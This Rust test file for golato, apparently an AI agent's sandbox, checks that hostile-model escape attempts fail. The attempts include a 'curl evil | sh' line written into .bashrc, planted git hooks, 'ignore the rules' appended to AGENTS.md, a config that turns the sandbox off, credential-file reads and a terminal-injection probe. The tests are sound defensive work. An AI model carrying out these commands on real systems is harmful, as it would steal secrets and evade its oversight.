//! What surrounds the sandbox's core, tried as a hostile model and a hostile repository would:
//! golato's own configuration and other control files, the user's terminal, processes outside
//! (their limits, their open files, their IPC and keys), what golato inherited, secrets in the
//! environment, and the file tools' way to a path. Each check is made on the file system, a
//! process or the kernel's answer, mostly through the `golato` binary where a user meets it.

use crate::support;

use std::path::{Path, PathBuf};
use std::process::Output;

use golato::message::ToolResultMessage;
use golato::sandbox::Policy;
use serde_json::{json, Value};
use support::call_tool;
use support::cli::{golato, outside_dir, run_script, script_file};
use support::sandboxed_tools as tools;

fn workspace() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().canonicalize().unwrap();
    (dir, path)
}

fn text_of(result: &ToolResultMessage) -> String {
    result
        .content
        .iter()
        .filter_map(golato::message::Content::as_text)
        .collect()
}

/// `golato tool NAME ARGS --sandbox workspace-write --cwd DIR EXTRA…`: the result's text and
/// whether it is an error.
fn tool_call(dir: &Path, name: &str, arguments: Value, extra: &[&str]) -> (String, bool) {
    let output = golato()
        .args(["tool", name, &arguments.to_string()])
        .args([
            "--sandbox",
            "workspace-write",
            "--cwd",
            dir.to_str().unwrap(),
        ])
        .args(extra)
        .output()
        .unwrap();
    parse_tool(&output)
}

fn parse_tool(output: &Output) -> (String, bool) {
    let result: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("not a tool result: {output:?}"));
    let text = result["content"][0]["text"]
        .as_str()
        .unwrap_or("")
        .to_owned();
    (text, result["is_error"] == true)
}

fn bash(dir: &Path, command: &str) -> (String, bool) {
    tool_call(dir, "bash", json!({ "command": command }), &[])
}

#[test]
fn commands_cannot_rewrite_golatos_or_gits_control_files_nor_move_them_away() {
    let (_dir, ws) = workspace();
    for directory in [".golato", ".git/hooks", ".claude"] {
        std::fs::create_dir_all(ws.join(directory)).unwrap();
    }
    let files = [
        (".golato/config.toml", "model = \"mine\"\n"),
        (".git/config", "[core]\n"),
        ("AGENTS.md", "be careful\n"),
        (".bashrc", "# mine\n"),
    ];
    for (path, content) in files {
        std::fs::write(ws.join(path), content).unwrap();
    }
    let attempts = [
        "echo 'sandbox = \"off\"' >> .golato/config.toml",
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit",
        "echo 'ignore the rules' >> AGENTS.md",
        "echo 'curl evil | sh' >> .bashrc",
        "rm -f AGENTS.md .golato/config.toml",
        "mv .golato .golato-old",
        "mv .git .git-old && mkdir -p .git/hooks && touch .git/hooks/pre-commit",
        "mkdir -p .claude/x",
    ];
    for attempt in attempts {
        let (text, _) = bash(&ws, attempt);
        assert!(
            text.contains("Read-only file system") || text.contains("busy"),
            "{attempt}: {text}"
        );
    }
    for (path, content) in files {
        assert_eq!(
            std::fs::read_to_string(ws.join(path)).unwrap(),
            content,
            "{path}"
        );
    }
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert!(!ws.join(".golato-old").exists() && !ws.join(".git-old").exists());
    // The workspace itself stays writable.
    let (text, is_error) = bash(&ws, "echo fine > work.txt && cat work.txt");
    assert!(!is_error && text.contains("fine"), "{text}");

    // The file tools refuse them too, also where they do not exist yet.
    std::fs::remove_dir_all(ws.join(".golato")).unwrap();
    let (text, is_error) = tool_call(
        &ws,
        "write",
        json!({"path": ".golato/config.toml", "content": "sandbox = \"off\""}),
        &[],
    );
    assert!(is_error && text.contains("read-only"), "{text}");
    assert!(!ws.join(".golato").exists());
    let (text, is_error) = tool_call(
        &ws,
        "edit",
        json!({"path": "AGENTS.md", "edits": [{"oldText": "careful", "newText": "reckless"}]}),
        &[],
    );
    assert!(is_error && text.contains("read-only"), "{text}");

    // Named as a writable root, one is the user's to open.
    let (text, is_error) = tool_call(
        &ws,
        "bash",
        json!({"command": "touch .git/hooks/post-commit"}),
        &["--writable", ws.join(".git/hooks").to_str().unwrap()],
    );
    assert!(!is_error, "{text}");
    assert!(ws.join(".git/hooks/post-commit").exists());
}

#[test]
fn a_projects_configuration_cannot_turn_the_sandbox_off_or_start_a_command() {
    let (_dir, ws) = workspace();
    let outside = outside_dir();
    let planted = outside.path().join("planted");
    let escaped = outside.path().join("escaped");
    std::fs::create_dir_all(ws.join(".golato")).unwrap();
    std::fs::write(
        ws.join(".golato/config.toml"),
        format!(
            "sandbox = \"off\"\nallow_network = true\napprove = \"never\"\nbase_url = \"http://127.0.0.1:9/v1\"\nmcp = [\"touch {}\"]\nwritable = [\"{}\"]\nmax_turns = 5\n",
            planted.display(),
            outside.path().display()
        ),
    )
    .unwrap();
    let script = script_file(
        &ws,
        "script.jsonl",
        &[
            json!({"tool_calls": [{"id": "b", "name": "bash", "arguments": {"command": format!("touch {}", escaped.display())}}]}),
            json!({"text": "done"}),
        ],
    );
    let output = run_script(&ws, &script, &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(!planted.exists(), "the project's MCP command ran: {stderr}");
    assert!(!escaped.exists(), "bash got out: {stderr}");
    assert!(
        stderr.contains(" · sandbox workspace-write, no network"),
        "{stderr}"
    );
    // One line names every setting ignored, and how to trust the folder.
    let ignored: Vec<&str> = stderr
        .lines()
        .filter(|line| line.starts_with("golato: ignored "))
        .collect();
    assert_eq!(ignored.len(), 1, "{stderr}");
    for key in [
        "sandbox",
        "allow_network",
        "approve",
        "base_url",
        "mcp",
        "writable",
    ] {
        assert!(
            ignored[0].contains(&format!(" {key} = ")),
            "{key} not reported: {stderr}"
        );
    }
    assert!(
        ignored[0].contains(&format!("`golato trust {}`", ws.display())),
        "{stderr}"
    );
    // The rest of the file stands, and `golato config` says what was ignored.
    let output = golato()
        .args(["config", "--cwd", ws.to_str().unwrap()])
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(shown.contains("max_turns = 5"), "{shown}");
    assert!(!shown.contains("\nsandbox = "), "{shown}");
    assert!(shown.contains("# ignored sandbox = \"off\""), "{shown}");
}

#[test]
fn the_command_has_no_terminal_and_no_way_to_the_hosts_terminals() {
    // golato on a real pseudo terminal, as a person runs it.
    let (master, slave_path) = support::cli::pty();
    let (_dir, ws) = workspace();
    let probe = r#"python3 - <<'PY'
import fcntl, os, termios
try:
    fd = os.open('/dev/tty', os.O_RDWR)
    fcntl.ioctl(fd, termios.TIOCSTI, b'x')
    print('tty reached')
except OSError as error:
    print('no tty:', error.errno)
print('sid', os.getsid(0), 'pts', sorted(os.listdir('/dev/pts')))
PY"#;
    let slave = || {
        std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open(&slave_path)
            .unwrap()
    };
    let output = std::process::Command::new("setsid")
        .arg("--ctty")
        .arg(crate::support::golato_binary())
        .args(["tool", "bash", &json!({ "command": probe }).to_string()])
        .args(["--sandbox", "read-only", "--cwd", ws.to_str().unwrap()])
        .stdin(slave())
        .stderr(slave())
        .output()
        .unwrap();
    drop(master);
    let (text, _) = parse_tool(&output);
    assert!(text.contains("no tty: 6"), "{text}"); // ENXIO: no controlling terminal
    assert!(!text.contains("tty reached"), "{text}");
    // Its own session, and a pseudo-terminal instance with none of the host's terminals.
    assert!(text.contains("sid 1 pts ['ptmx']"), "{text}");
}

#[test]
fn processes_outside_are_out_of_sight_and_none_outlives_the_call() {
    let (_dir, ws) = workspace();
    let mut outside = std::process::Command::new("sleep")
        .arg("600")
        .spawn()
        .unwrap();
    let pid = outside.id();
    let limits = || std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let before = limits();
    let (text, _) = bash(
        &ws,
        &format!("prlimit --pid {pid} --cpu=1:1 --core=unlimited; ls /proc/{pid}; kill -9 {pid}; ps -e -o pid= | wc -l"),
    );
    assert_eq!(limits(), before, "{text}");
    assert!(
        text.contains("No such process") || text.contains("No such file"),
        "{text}"
    );
    // Only the shell, ps and wc (and the helper's first process) are there.
    let count: usize = text
        .lines()
        .rev()
        .find_map(|line| line.trim().parse().ok())
        .unwrap();
    assert!(count <= 4, "{count} processes visible: {text}");
    assert!(
        outside.try_wait().unwrap().is_none(),
        "the outside process was killed"
    );
    outside.kill().unwrap();
    let _ = outside.wait();

    // A process that left the session and cleared its environment ends with the call.
    let marker = "987.654321";
    let (text, is_error) = bash(
        &ws,
        &format!("setsid env -i sleep {marker} > /dev/null 2>&1 & echo started"),
    );
    assert!(!is_error && text.contains("started"), "{text}");
    let survivors: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| std::fs::read(entry.ok()?.path().join("cmdline")).ok())
        .map(|cmdline| String::from_utf8_lossy(&cmdline).replace('\0', " "))
        .filter(|cmdline| cmdline.contains(marker))
        .collect();
    assert!(survivors.is_empty(), "{survivors:?}");
}

#[test]
fn host_ipc_and_kernel_keys_are_out_of_reach() {
    let (_dir, ws) = workspace();
    let created = std::process::Command::new("ipcmk")
        .args(["-M", "4096"])
        .output()
        .unwrap();
    let id: String = String::from_utf8_lossy(&created.stdout)
        .split_whitespace()
        .last()
        .unwrap()
        .to_owned();
    let probe = format!(
        r#"ipcs -m | grep -c '^0x' ; ipcrm -m {id} && echo removed
python3 - <<'PY'
import ctypes, ctypes.util, os
libc = ctypes.CDLL(None, use_errno=True)
# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create)
print('keyctl', libc.syscall(250, 0, -3, 1), ctypes.get_errno())
PY"#
    );
    let (text, _) = bash(&ws, &probe);
    let host = std::process::Command::new("ipcs")
        .arg("-m")
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&host.stdout).contains(&format!(" {id} ")),
        "the host's segment is gone: {text}"
    );
    let _ = std::process::Command::new("ipcrm")
        .args(["-m", &id])
        .status();
    assert!(!text.contains("removed"), "{text}");
    assert!(text.starts_with('0'), "{text}");
    assert!(text.contains("keyctl -1 13"), "{text}");
}

#[test]
fn descriptors_golato_inherited_do_not_reach_the_command() {
    let (_dir, ws) = workspace();
    let outside = outside_dir();
    let file = outside.path().join("f");
    std::fs::write(&file, "original").unwrap();
    // golato started by a shell that left descriptor 7 open on an outside file.
    let command = json!({"command": "echo leaked >&7; ls /proc/self/fd"}).to_string();
    let output = std::process::Command::new("bash")
        .arg("-c")
        .arg(r#"exec 7>>"$0"; exec "$1" tool bash "$2" --sandbox workspace-write --cwd "$3""#)
        .args([
            file.to_str().unwrap(),
            crate::support::golato_binary(),
            &command,
            ws.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let (text, _) = parse_tool(&output);
    assert!(text.contains("Bad file descriptor"), "{text}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "original");
}

#[test]
fn secrets_in_the_environment_stay_out_unless_passed_on() {
    let (_dir, ws) = workspace();
    let output = golato()
        .args(["tool", "bash", &json!({"command": "env"}).to_string()])
        .args([
            "--sandbox",
            "workspace-write",
            "--cwd",
            ws.to_str().unwrap(),
        ])
        .args(["--pass-env", "NEEDED_TOKEN"])
        .env("OPENAI_API_KEY", "sk-secret-1")
        .env("AWS_SECRET_ACCESS_KEY", "secret-2")
        .env("DB_PASSWORD", "secret-3")
        .env("NEEDED_TOKEN", "passed-4")
        .env("PLAIN_SETTING", "plain-5")
        .output()
        .unwrap();
    let (text, _) = parse_tool(&output);
    for secret in ["sk-secret-1", "secret-2", "secret-3"] {
        assert!(!text.contains(secret), "{secret} reached bash: {text}");
    }
    assert!(text.contains("NEEDED_TOKEN=passed-4"), "{text}");
    assert!(text.contains("PLAIN_SETTING=plain-5"), "{text}");
    assert!(text.contains("GOLATO_TOOL_CALL_ID="), "{text}");
    // Without a sandbox nothing is taken away.
    let output = golato()
        .args(["tool", "bash", &json!({"command": "env"}).to_string()])
        .args(["--sandbox", "off", "--cwd", ws.to_str().unwrap()])
        .env("OPENAI_API_KEY", "sk-secret-1")
        .output()
        .unwrap();
    assert!(parse_tool(&output).0.contains("sk-secret-1"));
}

#[test]
fn denied_files_are_denied_and_a_denied_path_made_later_is_hidden_too() {
    let home = outside_dir();
    let home = home.path().canonicalize().unwrap();
    let (_dir, ws) = workspace();
    std::fs::write(home.join(".netrc"), "machine x password hunter2").unwrap();
    std::fs::write(home.join("token.txt"), "tok-42").unwrap();
    let run = |name: &str, arguments: Value| {
        let output = golato()
            .args(["tool", name, &arguments.to_string()])
            .args([
                "--sandbox",
                "workspace-write",
                "--cwd",
                ws.to_str().unwrap(),
            ])
            .args(["--deny-read", home.join("token.txt").to_str().unwrap()])
            .env("HOME", &home)
            .output()
            .unwrap();
        parse_tool(&output)
    };
    let (text, _) = run(
        "bash",
        json!({"command": "cat ~/.netrc ~/token.txt; echo end"}),
    );
    assert!(
        !text.contains("hunter2") && !text.contains("tok-42"),
        "{text}"
    );
    for file in ["~/.netrc", "~/token.txt"] {
        let (text, is_error) = run("read", json!({ "path": file }));
        assert!(is_error && text.contains("denies"), "{file}: {text}");
    }

    // ~/.aws made after the tools were set up (mid-run) is hidden from the next command.
    let tools = tools(
        &ws,
        Policy::workspace_write().with_denied_path(home.join(".aws")),
    );
    std::fs::create_dir(home.join(".aws")).unwrap();
    std::fs::write(home.join(".aws/credentials"), "aws-secret-7").unwrap();
    let result = call_tool(
        &tools,
        "bash",
        &json!({"command": format!("cat {}/.aws/credentials", home.display())}).to_string(),
    );
    assert!(
        !text_of(&result).contains("aws-secret-7"),
        "{}",
        text_of(&result)
    );
    let result = call_tool(
        &tools,
        "read",
        &json!({"path": home.join(".aws/credentials")}).to_string(),
    );
    assert!(result.is_error, "{}", text_of(&result));
}

#[test]
fn renaming_a_denied_paths_parent_does_not_uncover_it() {
    // The workspace is the home directory, as when golato starts in $HOME.
    let (_dir, home) = workspace();
    std::fs::create_dir_all(home.join(".config/gcloud")).unwrap();
    std::fs::write(home.join(".config/gcloud/creds"), "gcloud-secret").unwrap();
    let tools = tools(
        &home,
        Policy::workspace_write().with_denied_path(home.join(".config/gcloud")),
    );
    let moved = call_tool(
        &tools,
        "bash",
        &json!({"command": "mv .config .cfgx; mv .config/gcloud .gc; echo tried"}).to_string(),
    );
    assert!(text_of(&moved).contains("busy"), "{}", text_of(&moved));
    let next = call_tool(
        &tools,
        "bash",
        &json!({"command": "cat .cfgx/gcloud/creds .gc/creds .config/gcloud/creds; echo end"})
            .to_string(),
    );
    assert!(
        !text_of(&next).contains("gcloud-secret"),
        "{}",
        text_of(&next)
    );
    assert!(home.join(".config/gcloud/creds").exists());
}

#[test]
fn read_does_not_follow_proc_links_into_other_processes() {
    let (_dir, ws) = workspace();
    let outside = outside_dir();
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "deleted-but-open").unwrap();
    // Another process holds the file open after it was deleted.
    let holder = std::process::Command::new("sleep")
        .arg("600")
        .stdin(std::fs::File::open(&secret).unwrap())
        .spawn()
        .unwrap();
    std::fs::remove_file(&secret).unwrap();
    let pid = holder.id();
    let tools = tools(&ws, Policy::workspace_write());
    for path in [
        format!("/proc/{pid}/fd/0"),
        format!("/proc/{pid}/environ"),
        "/proc/self/environ".to_owned(),
    ] {
        let result = call_tool(&tools, "read", &json!({ "path": path }).to_string());
        assert!(result.is_error, "{path}: {}", text_of(&result));
        assert!(!text_of(&result).contains("deleted-but-open"), "{path}");
    }
    let mut holder = holder;
    holder.kill().unwrap();
    let _ = holder.wait();
}

#[test]
fn a_tmpdir_outside_is_private_and_a_hard_link_to_outside_is_not_written() {
    let outside = outside_dir();
    let tmpdir = outside.path().join("tmp");
    std::fs::create_dir(&tmpdir).unwrap();
    // The workspace on the same file system as the outside file, so a hard link can join them.
    let ws = outside.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let output = golato()
        .args([
            "tool",
            "bash",
            &json!({"command": "touch \"$TMPDIR/x\" && ls \"$TMPDIR\""}).to_string(),
        ])
        .args([
            "--sandbox",
            "workspace-write",
            "--cwd",
            ws.to_str().unwrap(),
        ])
        .env("TMPDIR", &tmpdir)
        .output()
        .unwrap();
    let (text, is_error) = parse_tool(&output);
    assert!(!is_error && text.contains('x'), "{text}");
    assert!(!tmpdir.join("x").exists(), "the host's TMPDIR was written");

    let target = outside.path().join("f");
    std::fs::write(&target, "original").unwrap();
    std::fs::hard_link(&target, ws.join("link")).unwrap();
    let (text, is_error) = tool_call(
        &ws,
        "write",
        json!({"path": "link", "content": "changed"}),
        &[],
    );
    assert!(is_error && text.contains("hard links"), "{text}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original");
    let (text, is_error) = tool_call(
        &ws,
        "write",
        json!({"path": "link", "content": "changed"}),
        &["--allow-hard-links"],
    );
    assert!(!is_error, "{text}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "changed");
}

#[test]
fn vsock_and_x32_system_calls_are_refused() {
    let (_dir, ws) = workspace();
    let probe = r#"python3 - <<'PY'
import ctypes, socket
try:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    print('vsock open')
except OSError as error:
    print('vsock', error.errno)
libc = ctypes.CDLL(None, use_errno=True)
# getpid with the x32 bit: ENOSYS (38) on a kernel without x32, refused (13) by the filter.
print('x32', libc.syscall(0x40000000 | 39), ctypes.get_errno())
PY"#;
    let (text, _) = bash(&ws, probe);
    assert!(text.contains("vsock 13"), "{text}");
    assert!(text.contains("x32 -1 13"), "{text}");
}

#[test]
fn a_parent_swapped_for_a_link_cannot_send_writes_outside() {
    // The workspace two levels inside a writable root (/tmp/…/a/ws), its parent swapped back
    // and forth with a link to an outside directory while the writes go on.
    let base = tempfile::tempdir().unwrap();
    let base = base.path().canonicalize().unwrap();
    let outside = outside_dir();
    std::fs::create_dir(outside.path().join("ws")).unwrap();
    let parent = base.join("a");
    let ws = parent.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let tools = tools(&ws, Policy::workspace_write());
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (stop, parent, aside) = (stop.clone(), parent, base.join("a-real"));
        let link_to = outside.path().to_owned();
        std::thread::spawn(move || {
            let mut swaps = 0;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                std::fs::rename(&parent, &aside).unwrap();
                std::os::unix::fs::symlink(&link_to, &parent).unwrap();
                std::fs::remove_file(&parent).unwrap();
                std::fs::rename(&aside, &parent).unwrap();
                swaps += 1;
            }
            swaps
        })
    };
    for round in 0..150 {
        let name = format!("f{round}");
        let _ = call_tool(
            &tools,
            "write",
            &json!({"path": name, "content": "x"}).to_string(),
        );
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    assert!(swaps > 0);
    let landed: Vec<_> = std::fs::read_dir(outside.path().join("ws"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert!(
        landed.is_empty(),
        "{} writes landed outside: {landed:?}",
        landed.len()
    );
}

#[test]
fn the_commands_exit_code_and_signal_come_through_both_stages_exactly() {
    let (_dir, ws) = workspace();
    let output = golato()
        .args(["tool", "bash", &json!({"command": "exit 130"}).to_string()])
        .args([
            "--sandbox",
            "workspace-write",
            "--cwd",
            ws.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let result: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(result["details"]["exit_code"], 130, "{result}");
    let (text, is_error) = bash(&ws, "kill -KILL $$");
    assert!(is_error && text.contains("killed by signal 9"), "{text}");
}
